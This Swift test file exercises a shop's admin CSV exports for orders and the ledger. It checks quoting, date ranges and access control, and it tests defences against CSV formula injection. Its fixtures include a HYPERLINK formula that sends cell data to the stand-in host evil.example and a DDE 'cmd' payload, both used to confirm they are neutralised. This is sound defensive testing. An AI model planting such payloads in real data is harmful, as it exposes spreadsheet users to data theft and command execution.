import Foundation
import Testing
import TestSupport

/// `GET /admin/exports/orders` and `GET /admin/exports/ledger` over real
/// HTTP against the real binary: `text/csv`, RFC 4180 quoting (read back
/// with Python's csv module, independent of the server's code), the rows
/// of the time range only, admins only.
@Suite struct ExportFlowTests {
    typealias Shop = PaymentShop

    @Test func ordersAndLedgerOfARangeExportAsCSV() throws {
        // 206 unpaid orders of one buyer: past the default bounds.
        try Shop.run(stock: 2_000, arguments: ["--unpaid-orders-per-customer", "0",
                                               "--unpaid-units-per-customer", "0"]) { shop, api in
            let buyer = try shop.customer("exporter")
            let before = Self.now()
            // An address that needs quoting: commas, double quotes, a second line.
            let awkward = #"{"shipping_address":{"name":"Ana \"La\" López, Jr.","lines":["Calle Mayor 1, 2º","Puerta B"],"city":"Madrid","postal_code":"28013","country":"ES","email":"ana@example.com"}}"#
            let first = try shop.checkout(buyer, body: awkward)
            let firstID = try #require(first["id"] as? String)
            #expect(try shop.deliver(try shop.sign(first, reference: "ch_1")).status == 200)
            // More than one export page (200 rows) of orders.
            var ids = [firstID]
            for _ in 0..<205 { ids.append(try #require(try shop.checkout(buyer)["id"] as? String)) }
            let after = Self.now()

            let orders = try api.call("GET", "/admin/exports/orders?from=\(before)&to=\(after)", token: shop.admin)
            #expect(orders.status == 200)
            #expect(orders.header("Content-Type")?.hasPrefix("text/csv") == true)
            let rows = try Self.parse(orders.body)
            #expect(rows.first?.first == "id" && rows.first?.contains("ship_lines") == true)
            let header = try #require(rows.first)
            let records = rows.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(header, $0)) }
            #expect(records.count == ids.count)
            #expect(Set(records.compactMap { $0["id"] }) == Set(ids))
            let paid = try #require(records.first { $0["id"] == firstID })
            #expect(paid["ship_name"] == #"Ana "La" López, Jr."#)
            #expect(paid["ship_lines"] == "Calle Mayor 1, 2º\nPuerta B")
            #expect(paid["financial_status"] == "paid" && paid["paid"] == "4000" && paid["total"] == "4000")
            #expect(paid["status"] == "confirmed")

            let ledger = try api.call("GET", "/admin/exports/ledger?from=\(before)&to=\(after)", token: shop.admin)
            #expect(ledger.status == 200)
            let ledgerRows = try Self.parse(ledger.body)
            #expect(ledgerRows.count == 2)
            let entry = Dictionary(uniqueKeysWithValues: zip(ledgerRows[0], ledgerRows[1]))
            #expect(entry["order_id"] == firstID && entry["kind"] == "charge" && entry["amount"] == "4000")
            #expect(entry["actor"] == "provider" && entry["exceeds_paid"] == "false")

            // Another range holds nothing but the header; admins only; from and to required.
            let empty = try api.call("GET", "/admin/exports/orders?from=2000-01-01T00:00:00Z&to=2000-01-02T00:00:00Z",
                                     token: shop.admin)
            #expect(try Self.parse(empty.body).count == 1)
            #expect(try api.call("GET", "/admin/exports/orders?from=\(before)&to=\(after)", token: buyer).status == 403)
            #expect(try api.call("GET", "/admin/exports/ledger?from=\(before)&to=\(after)").status == 401)
            let missing = try api.call("GET", "/admin/exports/ledger?to=yesterday", token: shop.admin)
            #expect(missing.status == 422)
            let fields = (api.object(missing)["errors"] as? [[String: Any]])?.compactMap { $0["field"] as? String }
            #expect(Set(fields ?? []) == ["from", "to"])
        }
    }

    /// OWASP CSV Injection: a shipping address and provider references
    /// written to be run as formulas come back, read by Python's csv module,
    /// as text a spreadsheet shows: each such cell is `'` + the value
    /// (and quoted), while an amount the server writes stays a bare number.
    /// Each export is an attachment with a file name; `from` after `to` is 422.
    @Test func formulaCellsAreNeutralisedAndExportsAreNamedDownloads() throws {
        try Shop.run(stock: 100) { shop, api in
            let buyer = try shop.customer("hostile")
            let before = Self.now()
            let name = #"=HYPERLINK("http://evil.example/?d="&A1,"Click")"#
            let address: [String: Any] = [
                "name": name, "lines": ["+cmd|' /C calc'!A0", "@SUM(1+1)"], "city": "-2+3",
                "postal_code": "28013", "country": "ES", "phone": "+4930123456", "email": "=1+2@example.com",
            ]
            let body = String(decoding: try JSONSerialization.data(withJSONObject: ["shipping_address": address]), as: UTF8.self)
            let order = try shop.checkout(buyer, body: body)
            let orderID = try #require(order["id"] as? String)
            #expect(try shop.deliver(try shop.sign(order, eventID: "@evt+1", reference: "+1-2")).status == 200)
            let after = Self.now()

            let export = try api.call("GET", "/admin/exports/orders?from=\(before)&to=\(after)", token: shop.admin)
            #expect(export.status == 200)
            let disposition = try #require(export.header("Content-Disposition"))
            #expect(disposition.hasPrefix("attachment; filename=\"orders-") && disposition.hasSuffix(".csv\""))
            #expect(!disposition.dropFirst("attachment; ".count).contains(":"))
            let text = String(decoding: export.body, as: UTF8.self)
            // The raw bytes: a neutralised cell is quoted, so no record field
            // starts with a formula character even to a naive reader.
            #expect(text.contains(#",0,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")","#))
            let rows = try Self.parse(export.body)
            let header = try #require(rows.first)
            let record = try #require(rows.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(header, $0)) }.first)
            #expect(record["id"] == orderID)
            #expect(record["ship_name"] == "'" + name)
            #expect(record["ship_lines"] == "'+cmd|' /C calc'!A0\n@SUM(1+1)")
            #expect(record["ship_city"] == "'-2+3")
            #expect(record["ship_email"] == "'=1+2@example.com")
            #expect(record["ship_phone"] == "'+4930123456")
            #expect(record["total"] == "4000" && record["paid"] == "4000")
            for row in rows {
                for cell in row {
                    #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false), "cell \(cell) would run as a formula")
                }
            }

            let ledger = try api.call("GET", "/admin/exports/ledger?from=\(before)&to=\(after)", token: shop.admin)
            #expect(ledger.status == 200)
            #expect(ledger.header("Content-Disposition")?.hasPrefix("attachment; filename=\"ledger-") == true)
            let ledgerRows = try Self.parse(ledger.body)
            #expect(ledgerRows.count == 2)
            let entry = Dictionary(uniqueKeysWithValues: zip(ledgerRows[0], ledgerRows[1]))
            #expect(entry["reference"] == "'+1-2" && entry["event_id"] == "'@evt+1" && entry["amount"] == "4000")

            for export in ["orders", "ledger"] {
                let backwards = try api.call("GET", "/admin/exports/\(export)?from=\(after)&to=\(before)", token: shop.admin)
                #expect(backwards.status == 422)
                let errors = api.object(backwards)["errors"] as? [[String: Any]]
                #expect(errors?.first?["field"] as? String == "from" && errors?.first?["code"] as? String == "inconsistent")
            }
        }
    }

    static func now() -> String {
        let formatter = ISO8601DateFormatter()
        formatter.formatOptions = [.withInternetDateTime, .withFractionalSeconds]
        return formatter.string(from: Date())
    }

    /// The records as Python's csv module reads them (strict RFC 4180 quoting).
    static func parse(_ body: [UInt8]) throws -> [[String]] {
        let script = "import csv,io,json,sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline=''), strict=True))))"
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", script]
        let input = Pipe(), output = Pipe()
        process.standardInput = input
        process.standardOutput = output
        try process.run()
        input.fileHandleForWriting.write(Data(body))
        try input.fileHandleForWriting.close()
        let data = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return try #require(try JSONSerialization.jsonObject(with: data) as? [[String]])
    }
}
